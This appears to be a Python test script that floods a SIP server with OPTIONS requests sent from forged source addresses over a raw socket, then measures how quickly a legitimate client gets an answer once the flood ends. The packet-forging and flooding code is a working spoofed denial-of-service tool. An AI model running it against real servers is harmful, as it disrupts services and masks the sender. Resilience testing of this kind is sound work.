"""A spoofed SIP flood and a legitimate client, from inside a network namespace.

Usage: spoof-flood.py SERVER PORT SUBNET_PREFIX SECONDS RATE CLIENT_ADDRESS
Sends OPTIONS from random addresses of SUBNET_PREFIX (raw socket, forged source) to the server
for SECONDS at about RATE per second, then sends OPTIONS from CLIENT_ADDRESS every 100 ms for
up to 8 s and prints, as JSON, how long after the flood the first answer came (null: none).
"""
import json, random, socket, struct, sys, time

server, port, prefix, seconds, rate, client = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4]), int(sys.argv[5]), sys.argv[6]

def checksum(data):
    if len(data) % 2:
        data += b'\0'
    total = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xFFFF)
    total += total >> 16
    return ~total & 0xFFFF

def datagram(source, payload):
    length = 8 + len(payload)
    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + length, random.randint(0, 65535), 0, 64, 17, 0,
                     socket.inet_aton(source), socket.inet_aton(server))
    ip = ip[:10] + struct.pack('!H', checksum(ip)) + ip[12:]
    return ip + struct.pack('!HHHH', 5060, port, length, 0) + payload

def options(source, source_port, n):
    return ('OPTIONS sip:probe@%s SIP/2.0\r\nVia: SIP/2.0/UDP %s:%d;branch=z9hG4bKs%d\r\n'
            'From: <sip:scan@%s>;tag=1\r\nTo: <sip:probe@%s>\r\nCall-ID: s%d@flood\r\nCSeq: 1 OPTIONS\r\n'
            'Content-Length: 0\r\n\r\n' % (server, source, source_port, n, source, server, n)).encode()

raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
end = time.time() + seconds
n = 0
while time.time() < end:
    for _ in range(max(1, rate // 100)):
        source = prefix + str(random.randint(3, 254))
        raw.sendto(datagram(source, options(source, 5060, n)), (server, 0))
        n += 1
    time.sleep(0.01)
flood_ended = time.time()

legit = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
legit.bind((client, 0))
legit.settimeout(0.1)
first = None
k = 0
while time.time() < flood_ended + 8 and first is None:
    k += 1
    legit.sendto(options(client, legit.getsockname()[1], 10_000_000 + k), (server, port))
    try:
        while True:
            if b'z9hG4bKs%d' % (10_000_000 + k) in legit.recv(65535):
                first = time.time() - flood_ended
                break
    except socket.timeout:
        pass
print(json.dumps({'sent': n, 'firstAnswerAfter': first}))
